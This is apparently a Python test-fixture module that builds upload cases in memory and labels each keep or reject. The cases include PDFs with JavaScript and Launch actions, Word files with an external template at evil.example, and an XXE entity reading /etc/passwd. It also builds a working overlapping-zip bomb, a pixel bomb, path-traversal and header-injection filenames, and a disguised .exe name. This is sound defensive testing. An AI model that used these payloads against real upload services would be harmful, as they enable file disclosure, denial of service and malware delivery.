"""Hostile files, and odd but honest ones, built in memory: a name, the bytes, and whether they may be kept."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf
from PIL import Image

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TYPES = (
    f'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    f'<Override PartName="/word/document.xml" ContentType="{WORD}"/></Types>'
).encode()
BODY = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
DOCUMENT = [("[Content_Types].xml", TYPES), ("_rels/.rels", b"<Relationships/>"), ("word/document.xml", BODY)]
OUTSIDE = (
    b'<Relationships><Relationship TargetMode="External" Type="x/attachedTemplate"'
    b' Target="http://evil.example/t.dotm"/></Relationships>'
)
LINK = (
    b'<Relationships><Relationship TargetMode="External" Type="x/hyperlink"'
    b' Target="https://miasto.example/"/></Relationships>'
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
ENTITY = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
PROGRAM = b"MZ\x90\x00\x03"
OLE = b"\xd0\xcf\x11\xe0"


def package(parts: list[tuple[str, bytes]]) -> bytes:
    """A ZIP of named parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts:
            target.writestr(name, content)
    return out.getvalue()


def overlapping(parts: int = 250, size: int = 2 << 20) -> bytes:
    """A small file whose directory names one compressed block many times."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    plain = bytes(size)
    packed, crc, name = squeeze.compress(plain) + squeeze.flush(), zlib.crc32(plain), b"a"
    local = (
        struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(packed), size, len(name), 0)
        + name
        + packed
    )
    sizes = (crc, len(packed), size)
    entry = (
        struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 0, *sizes, len(name), 0, 0, 0, 0, 0, 0) + name
    )
    directory = entry * parts
    return (
        local
        + directory
        + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, parts, parts, len(directory), len(local), 0)
    )


def pdf(
    script: str = "", *, hidden: bool = True, attachment: bytes = b"", password: str = "", pages: int = 1
) -> bytes:
    """A PDF; `hidden` puts its objects into compressed streams, where a search of bytes finds nothing."""
    document, out = pikepdf.new(), io.BytesIO()
    for _ in range(pages):
        document.add_blank_page()
    if script:
        document.Root.OpenAction = document.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(script))
        )
    if attachment:
        document.attachments["facts.json"] = attachment
    mode = pikepdf.ObjectStreamMode.generate if hidden else pikepdf.ObjectStreamMode.disable
    encryption = pikepdf.Encryption(owner=password, user=password) if password else False
    document.save(out, object_stream_mode=mode, encryption=encryption)
    return out.getvalue()


def pdf_with(action: str) -> bytes:
    """A PDF whose page does something of its own accord."""
    document, out = pikepdf.new(), io.BytesIO()
    page = document.add_blank_page()
    page.obj.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name(f"/{action}"), F=pikepdf.String("x"))
    )
    document.save(out)
    return out.getvalue()


def pinned_program() -> bytes:
    """A program pinned to a page as a remark, which no list of attachments names."""
    document, out = pikepdf.new(), io.BytesIO()
    page = document.add_blank_page()
    stream = document.make_stream(PROGRAM)
    spec = pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F=pikepdf.String("x"), EF=pikepdf.Dictionary(F=stream)
    )
    remark = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, FS=spec)
    page.obj.Annots = pikepdf.Array([document.make_indirect(remark)])
    document.save(out)
    return out.getvalue()


def long_contents(entries: int = 3000) -> bytes:
    """An honest PDF with a long table of contents: a chain of thousands of objects."""
    document, out = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    with document.open_outline() as outline:
        outline.root.extend(pikepdf.OutlineItem(f"Rozdział {number}", 0) for number in range(entries))
    document.save(out)
    return out.getvalue()


def picture(kind: str = "PNG", **more: object) -> bytes:
    """A small picture."""
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, kind, **more)
    return out.getvalue()


def picture_with_position() -> bytes:
    """A photograph that says where and with what it was taken."""
    notes = Image.Exif()
    notes.get_ifd(0x8825)[1] = "N"
    notes[0x010F] = "camera"
    return picture("JPEG", exif=notes)


def double_picture() -> bytes:
    """What some phones call a JPEG: two pictures in one file."""
    return picture("MPO", save_all=True, append_images=[Image.new("RGB", (8, 8))])


def pixel_bomb() -> bytes:
    """A picture of a few bytes that says it has 3 600 million pixels."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")
    )


def cases() -> Iterator[tuple[str, bytes, bool]]:
    """Name, bytes, may it be kept?"""
    relations = "word/_rels/document.xml.rels"
    yield from [
        ("ok.pdf", pdf(), True),
        ("ok.docx", package(DOCUMENT), True),
        ("ok.odt", package([("content.xml", b"<x/>")]), True),
        ("ok.xlsx", package([("xl/workbook.xml", b"<x/>")]), True),
        ("ok.png", picture(), True),
        ("OK.JPEG", picture("JPEG"), True),
        ("gps.jpg", picture_with_position(), True),
        ("phone.jpg", double_picture(), True),
        ("long_contents.pdf", long_contents(), True),
        ("our_own_with_facts.pdf", pdf(attachment=b'{"title": "Raport"}'), True),
        ("link.docx", package([*DOCUMENT, (relations, LINK)]), True),
        ("Wniosek_Łódź.pdf", pdf(), True),
        ("Wniosek_Ło\u0301dz\u0301.pdf", pdf(), True),
        ("../../settings.pdf", pdf(), True),
        ("nul\x00.pdf", pdf(), True),
        ("CON.pdf", pdf(), True),
        ("a" * 300 + ".pdf", pdf(), True),
        ("x\r\nSet-Cookie: a=b.pdf", pdf(), True),
        ("script_in_object_stream.pdf", pdf("app.alert(1)"), False),
        ("script.pdf", pdf("app.alert(1)", hidden=False), False),
        ("launch.pdf", pdf_with("Launch"), False),
        ("opens_another.pdf", pdf_with("GoToR"), False),
        ("sends_a_form.pdf", pdf_with("SubmitForm"), False),
        ("program_attached.pdf", pdf(attachment=PROGRAM), False),
        ("program_pinned.pdf", pinned_program(), False),
        ("password.pdf", pdf(password="x"), False),
        ("too_long.pdf", pdf(pages=501), False),
        ("html_as.pdf", b"<html><script>alert(1)</script>", False),
        ("html_and.pdf", b"<script>alert(1)</script>\n" + pdf(), False),
        ("empty.pdf", b"", False),
        ("cut.pdf", pdf()[:200], False),
        ("drawing.svg", SVG, False),
        ("svg_as.png", SVG, False),
        ("no_ending", pdf(), False),
        ("macro_as.docx", package([*DOCUMENT, ("word/vbaProject.bin", OLE)]), False),
        ("macro.docm", package([*DOCUMENT, ("word/vbaProject.bin", OLE)]), False),
        ("basic.odt", package([("content.xml", b"<x/>"), ("Basic/Standard/Module1.xml", b"<x/>")]), False),
        ("outside_template.docx", package([*DOCUMENT, ("word/_rels/settings.xml.rels", OUTSIDE)]), False),
        ("entity.docx", package([DOCUMENT[0], ("word/document.xml", ENTITY)]), False),
        ("not_xml.docx", package([DOCUMENT[0], ("word/document.xml", b"<x")]), False),
        ("bomb.docx", package([*DOCUMENT, ("word/media/a.bin", bytes(300 << 20))]), False),
        ("overlapping.xlsx", overlapping(), False),
        ("many_parts.xlsx", package([DOCUMENT[0], *[(f"x/{n}", b"") for n in range(5000)]]), False),
        ("climbs_out.docx", package([*DOCUMENT, ("../../../etc/cron.d/x", b"x")]), False),
        ("object_inside.docx", package([*DOCUMENT, ("word/embeddings/oleObject1.bin", OLE)]), False),
        ("program_as.docx", PROGRAM, False),
        ("zip_as.docx", package([("a.txt", b"x")]), False),
        ("word_as.xlsx", package(DOCUMENT), False),
        ("pixel_bomb.png", pixel_bomb(), False),
        ("picture.png.php", picture(), False),
        ("evil\u202efdp.exe", b"MZ", False),
        ("jpg_as.png", picture("JPEG"), False),
        ("gif_as.png", picture("GIF"), False),
        ("cut.jpg", picture("JPEG")[:200], False),
    ]
